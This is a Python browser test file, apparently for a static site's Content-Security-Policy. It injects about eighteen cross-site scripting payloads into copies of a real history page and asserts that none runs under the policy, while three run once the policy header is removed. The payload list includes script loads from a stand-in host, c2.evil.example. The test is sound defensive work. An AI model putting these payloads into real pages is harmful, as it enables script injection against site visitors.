"""The policy alone: with every cleaning switched off, no script of a contribution runs on a real page."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

RUN = "window.__pwned=1"
RAW = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<a id=go href='javascript:{RUN}'>x</a>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<form id=f action='javascript:{RUN}'><button id=send>x</button></form>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>parent.{RUN}</script>'>",
    f"<base href='https://c2.evil.example/'><script src='a.js'></script><b onclick='{RUN}'>x</b>",
    f"<video><source onerror='{RUN}'></video>",
    f"<math><mtext><img src=x onerror='{RUN}'></mtext></math>",
    f"<style onload='{RUN}'></style><link rel=stylesheet href='data:text/css,' onload='{RUN}'>",
    "<script src='https://c2.evil.example/a.js'></script>",
    f"<script type=module>{RUN}</script>",
)
CLICK_ALL = "document.querySelectorAll('#go,#send,article b').forEach(one => one.click())"


@pytest.fixture(scope="module")
def open_pages(demo_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Copies of one real page, each with a raw attack in its article; with and without the policy."""
    folder = tmp_path_factory.mktemp("raw")
    page = (demo_site / "2565" / "640904" / "history.html").read_text(encoding="utf-8")
    marker = '<article class="article" id="content">'
    assert marker in page
    for number, attack in enumerate(RAW):
        hostile = page.replace(marker, marker + attack, 1)
        (folder / f"{number}.html").write_text(hostile, encoding="utf-8")
        bare = hostile.replace("Content-Security-Policy", "X-Nothing", 1)
        (folder / f"bare-{number}.html").write_text(bare, encoding="utf-8")
    return folder


def ran(browser: Browser, address: str, names: Sequence[str]) -> list[bool]:
    """Which of some pages ran their attack; all are open at once, so that they wait together."""
    context = browser.new_context()
    context.route(
        "**/*.evil.example/**", lambda route: route.fulfill(content_type="text/javascript", body=RUN)
    )
    pages = [context.new_page() for _ in names]
    for page, name in zip(pages, names, strict=True):
        page.goto(f"{address}{name}.html")
    pages[-1].wait_for_timeout(300)
    for page in pages:
        page.evaluate(f"() => {{ {CLICK_ALL} }}")
    pages[-1].wait_for_timeout(200)
    results = [page.evaluate("() => window.__pwned ?? null") for page in pages]
    context.close()
    return [result is not None for result in results]


def test_no_raw_attack_runs_under_the_policy(
    chromium: Browser, serve: Callable[[Path], str], open_pages: Path
) -> None:
    address = serve(open_pages)
    found = ran(chromium, address, [str(number) for number in range(len(RAW))])
    assert [attack for attack, has_run in zip(RAW, found, strict=True) if has_run] == []


def test_the_same_browser_would_run_them(
    chromium: Browser, serve: Callable[[Path], str], open_pages: Path
) -> None:
    address = serve(open_pages)
    assert ran(chromium, address, [f"bare-{number}" for number in (0, 1, 2)]) == [True] * 3
